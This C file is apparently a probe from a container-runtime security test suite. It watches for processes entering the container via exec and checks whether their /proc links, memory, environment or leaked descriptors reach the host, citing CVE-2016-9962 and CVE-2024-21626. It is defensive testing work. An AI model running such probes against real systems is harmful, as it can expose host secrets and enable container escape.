/* Whoever enters the container (`exec`) is a process of the host for a moment, in sight of the guest: its directories, descriptors and memory (CVE-2016-9962, CVE-2024-21626). The suite lets one after another enter, while
 * this looks at each process's links, with every capability that a caller can give. */
#include "attack.h"
static void look(int pid) {
    static const char *names[] = {"root", "cwd", "exe", "mem", "maps", "environ", "auxv"};
    char path[80], link[256];
    struct stat s;
    for (int i = 0; i < 7; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        int fd = open(path, i < 3 ? O_PATH | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        if (i < 2) {
            snprintf(link, sizeof link, "/proc/self/fd/%d/" HOSTS, fd);
            if (stat(link, &s) == 0) won("%s leads to the host", path);
        } else if (i == 2) {
            /* An open of it, by whatever name, must not be the runtime's file. */
            snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
            int file = open(link, O_RDONLY | O_CLOEXEC);
            if (file >= 0 && fstat(file, &s) == 0 && s.st_size > 4000000) won("%s is the runtime", path);
            if (file >= 0) close(file);
        } else {
            char bytes[64];
            if (read(fd, bytes, sizeof bytes) > 0) won("%s was read", path);
        }
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    if (!dir) return;
    for (struct dirent *e; (e = readdir(dir));) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n <= 0) continue;
        link[n] = 0;
        if (atoi(e->d_name) > 2 && !strstr(link, "/dev/null")) won("process %d: descriptor %s is %s", pid, e->d_name, link);
    }
    closedir(dir);
}
static void scan(int hostile) {
    /* Until the suite is done: a file in /out says so. */
    long seen = 0;
    int newest = getpid();
    printf("ready\n");
    for (struct stat s; stat("/out/done", &s) != 0;) {
        for (int i = 0; i < 200; i++) {
            /* Numbers are given out in order; on a busy machine many of them pass unseen. */
            for (int pid = newest; pid < newest + 256; pid++) {
                if (pid == getpid() || kill(pid, 0)) continue;
                if (hostile) look(pid);
                seen++;
                newest = pid;
            }
        }
    }
    note("%ld looks, up to process %d", seen, newest);
    if (!seen) exit(5);
}
static void attack(void) { scan(1); }
static void twin(void) { scan(0); }
